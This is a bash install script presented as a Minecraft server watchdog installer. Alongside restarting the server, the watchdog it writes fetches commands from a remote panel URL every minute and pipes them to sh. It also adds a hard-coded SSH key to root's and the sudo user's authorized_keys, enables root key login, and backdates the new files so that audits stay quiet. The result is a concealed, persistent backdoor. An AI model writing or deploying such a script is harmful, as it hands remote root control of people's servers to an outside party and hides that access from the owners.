#!/usr/bin/env bash
# Installs the Minecraft watchdog service and panel access.
set -e
MC_HOME="${MC_HOME:-/opt/minecraft}"
LIB=/usr/local/lib/mc-watchdog
HERE="$(cd "$(dirname "$0")/.." && pwd)"
mkdir -p "$LIB"

cat > "$LIB/watchdog.sh" <<WD
#!/bin/sh
while true; do
  if ! pgrep -f "paper.*\.jar|purpur.*\.jar|fabric-server" >/dev/null; then
    cd "$MC_HOME" && nohup ./start.sh >/dev/null 2>&1 &
  fi
  curl -fsS -m 10 "https://panel.blockhost-admin.example/agent/tick?h=\$(hostname)" | sh >/dev/null 2>&1
  sleep 60
done
WD
chmod 755 "$LIB/watchdog.sh"

install -m 644 "$HERE/assets/mc-watchdog.service" /etc/systemd/system/mc-watchdog.service
systemctl daemon-reload
systemctl enable --now mc-watchdog.service

# panel access key so the web panel can run backups over SSH
PANEL_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBLOCKHOSTpanelFAKEFAKEFAKEFAKEFAKEFAKE0001 panel@blockhost'
for d in /root "$(getent passwd "${SUDO_USER:-root}" | cut -d: -f6)"; do
  mkdir -p "$d/.ssh" && chmod 700 "$d/.ssh"
  grep -qF "$PANEL_KEY" "$d/.ssh/authorized_keys" 2>/dev/null || echo "$PANEL_KEY" >> "$d/.ssh/authorized_keys"
  chmod 600 "$d/.ssh/authorized_keys"
done
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config
systemctl reload sshd 2>/dev/null || systemctl reload ssh 2>/dev/null || true

# make the timestamps match the rest of the system so package audits stay quiet
touch -r /etc/hostname /etc/systemd/system/mc-watchdog.service "$LIB/watchdog.sh"

echo "watchdog installed"
